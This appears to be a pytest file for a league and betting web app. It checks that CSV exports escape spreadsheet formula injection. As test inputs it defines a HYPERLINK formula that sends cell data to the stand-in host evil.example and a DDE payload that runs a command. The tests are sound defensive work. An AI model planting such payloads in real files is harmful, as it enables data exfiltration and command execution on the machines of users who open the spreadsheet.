"""No download writes a cell a spreadsheet would run as a formula: text starting with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'`` (the OWASP rule) in the
standings, roster, bets and my-bets CSV and the API's ``?format=csv``; numbers, negative ones
included, and text that is only a number stay as they are."""

import csv
import io

import pytest

from core.exports import csv_cell
from league.models import Team
from systems.rotzball.models import Player
from tests.exports.helpers import body, csv_records

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (COMMAND, "'" + COMMAND),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Wolves = best", "Wolves = best"),
        ("-3", "-3"),
        ("-1.50", "-1.50"),
        ("+4", "+4"),
        (-3, -3),
        (None, None),
    ],
)
def test_the_rule(value, cell):
    assert csv_cell(value) == cell


@pytest.fixture
def formula_teams(team, other_team):
    Team.objects.filter(pk=team.pk).update(name=HYPERLINK)
    Team.objects.filter(pk=other_team.pk).update(name=COMMAND)


def test_standings_csv(client, league, season, formula_teams):
    teams = {row["team"] for row in csv_records(client.get(f"/leagues/{league.pk}/standings.csv"))}
    assert teams == {"'" + HYPERLINK, "'" + COMMAND}


def test_roster_csv(client, team):
    Player.objects.filter(pk=team.players.order_by("pk")[0].pk).update(name="@SUM(1+1)")
    names = {row["name"] for row in csv_records(client.get(f"/leagues/teams/{team.pk}/roster.csv"))}
    assert "'@SUM(1+1)" in names
    assert not {name for name in names if name.startswith(("=", "+", "-", "@"))}


def test_bets_and_my_bets_csv(client, commissioner, punter, open_fixture, wallet, place):
    place(punter, open_fixture, "home", 10)
    Team.objects.filter(pk=open_fixture.home_id).update(name=HYPERLINK)
    client.force_login(punter)
    mine = csv_records(client.get("/betting/my-bets.csv"))
    client.force_login(commissioner)
    book = csv_records(client.get(f"/betting/leagues/{open_fixture.season.league_id}/bets.csv"))
    assert [row["home"] for row in mine] == [row["home"] for row in book] == ["'" + HYPERLINK]


def test_api_csv(api_client, season, formula_teams):
    response = api_client.get(f"/api/v1/seasons/{season.pk}/standings/", {"format": "csv"})
    lines = list(csv.DictReader(io.StringIO(body(response).decode("utf-8"))))
    names = {value for line in lines for key, value in line.items() if "name" in key}
    assert names == {"'" + HYPERLINK, "'" + COMMAND}
    teams = api_client.get("/api/v1/teams/", {"format": "csv"})
    names = {line["name"] for line in csv.DictReader(io.StringIO(body(teams).decode("utf-8")))}
    assert names == {"'" + HYPERLINK, "'" + COMMAND}
